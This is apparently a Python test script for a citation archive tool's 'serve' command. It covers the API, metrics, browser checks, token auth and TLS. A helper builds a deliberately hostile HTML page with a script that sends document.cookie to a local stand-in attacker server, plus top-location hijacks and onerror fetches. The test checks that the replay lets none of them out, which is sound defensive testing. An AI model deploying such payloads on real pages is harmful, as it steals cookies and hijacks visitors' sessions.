#!/usr/bin/env python3
"""`serve` before a browser and before programs: its pages, a hostile page replayed, who may read, and how it ends."""
import json
import shutil
import subprocess
import pathlib
import urllib.error
import urllib.request

from support import certificate_for, end, folder, leave_out, local, manifest, npm, run, serving, site

QUOTE = "The harbour is not open to ships of the old guild."


def get(address, headers=None, data=None):
    try:
        with urllib.request.urlopen(urllib.request.Request(address, data=data, headers=headers or {}), timeout=30) as answer:
            return answer.status, answer.read().decode()
    except urllib.error.HTTPError as refusal:
        return refusal.code, refusal.read().decode()


def hostile(evil):
    """A page that tries every way out of a replay that needs no person's help, and some that do."""
    return f"""<html><head><base href="http://127.0.0.1:{evil}/base/"><link rel="preconnect" href="http://127.0.0.1:{evil}">
<link rel="stylesheet" href="http://127.0.0.1:{evil}/style.css">
<style>body {{ background: url(http://127.0.0.1:{evil}/background) }} @import url(http://127.0.0.1:{evil}/import);</style></head>
<body onload="top.location='http://127.0.0.1:{evil}/onload'"><p>The harbour is open to ships of the old guild.</p>
<script>fetch('http://127.0.0.1:{evil}/?' + document.cookie); parent.document.title = 'taken'; top.location = 'http://127.0.0.1:{evil}/top';</script>
<img src="http://127.0.0.1:{evil}/image" onerror="fetch('http://127.0.0.1:{evil}/onerror')"><iframe src="http://127.0.0.1:{evil}/frame"></iframe>
<object data="http://127.0.0.1:{evil}/object"></object><embed src="http://127.0.0.1:{evil}/embed"><video autoplay src="http://127.0.0.1:{evil}/video"></video>
<svg onload="fetch('http://127.0.0.1:{evil}/svg')"></svg>
<form id="f" action="http://127.0.0.1:{evil}/form"><button id="send">Send</button></form><a id="out" href="http://127.0.0.1:{evil}/link" target="_top">Out</a>
</body></html>"""


def two_checks(here, evil):
    (here / "letter.json").write_text(manifest(("http://guild.example/harbour", QUOTE), ("http://guild.example/gone", "Nothing.")))
    first = "<html><body><p>" + QUOTE + "</p></body></html>"
    for page in (first, hostile(evil)):
        with site({"/harbour": (200, "text/html", page)}) as port:
            checked = run("check", "letter.json", "--archive", "a", "-q", *local(port), cwd=here)
            assert checked.returncode == 1, checked.stderr


def programs(address):
    status, documents = get(address + "/api/v1/documents")
    assert status == 200 and json.loads(documents)["documents"][0]["checks"] == 2, documents
    citations = json.loads(get(address + "/api/v1/citations?verdict=drifted")[1])["citations"]
    assert [c["label"] for c in citations] == ["c1"], citations
    history = json.loads(get(f"{address}/api/v1/citations/{citations[0]['id']}")[1])
    assert [check["quote_state"] for check in history["checks"]] == ["verbatim", "altered"], history
    assert history["stood"][0]["gone_by"], history
    assert get(address + "/healthz") == (200, "ok\n")
    assert get(address + "/", {"Host": "evil.example"})[0] == 421
    assert get(address + "/", data=b"x")[0] == 405
    return citations[0]["id"]


def lints_metrics(address):
    promtool = shutil.which("promtool")
    if not promtool:
        leave_out("promtool (Debian's prometheus) is not installed")
        return
    checked = subprocess.run([promtool, "check", "metrics"], input=get(address + "/metrics")[1], capture_output=True, text=True)
    assert checked.returncode == 0 and not checked.stderr, checked.stderr


def in_a_browser(address, citation):
    if not shutil.which("chromium"):
        leave_out("chromium is not installed, so nobody looked at the pages")
        return
    packages = npm({"playwright-core": "1.65.1", "axe-core": "4.14.1"})
    script = pathlib.Path(__file__).with_name("look_at_pages.mjs")
    looked = subprocess.run(["node", script, packages, shutil.which("chromium"), address, str(citation)],
                            capture_output=True, text=True, timeout=240)
    print(looked.stdout, end="")
    assert looked.returncode == 0, looked.stdout + looked.stderr


def beyond_this_machine(here):
    refused = run("serve", "--archive", "a", "--listen", "0.0.0.0:0", cwd=here)
    assert refused.returncode == 2 and "--token-file" in refused.stderr, refused.stderr
    (here / "short").write_text("secret\n")
    assert run("serve", "--archive", "a", "--token-file", "short", cwd=here).returncode == 2
    token = "0123456789abcdef0123456789abcdef"
    (here / "token").write_text(token + "\n")
    certificate_for({"localhost"}, here / "tls.pem")
    with serving("--archive", "a", "--listen", "127.0.0.1:0", "--token-file", "token", cwd=here) as address:
        assert get(address + "/")[0] == 401
        assert get(address + "/", {"Authorization": f"Bearer {token}"})[0] == 200
        assert get(address + "/healthz")[0] == 200
    with serving("--archive", "a", "--listen", "127.0.0.1:0", "--tls-cert", "tls.pem.crt", "--tls-key", "tls.pem.key", cwd=here) as address:
        answer = subprocess.run(["curl", "-sS", "--cacert", "tls.pem.crt", "--resolve", f"localhost:{address.rsplit(':', 1)[1]}:127.0.0.1",
                                 f"https://localhost:{address.rsplit(':', 1)[1]}/healthz"], cwd=here, capture_output=True, text=True)
        assert answer.stdout == "ok\n", answer.stderr


with folder() as here:
    missing = run("serve", "--archive", "nowhere", cwd=here)
    assert missing.returncode == 2 and "loccit check" in missing.stderr, missing.stderr
    reached = []
    with site(lambda handler: reached.append(handler.path) or (200, "text/html", "<p>reached</p>")) as evil:
        two_checks(here, evil)
        with serving("--archive", "a", "--listen", "127.0.0.1:0", cwd=here) as address:
            citation = programs(address)
            lints_metrics(address)
            in_a_browser(address, citation)
        assert reached == [], f"the archived page reached the network: {reached}"
    beyond_this_machine(here)
print("served, looked at, and nothing got out")
end()
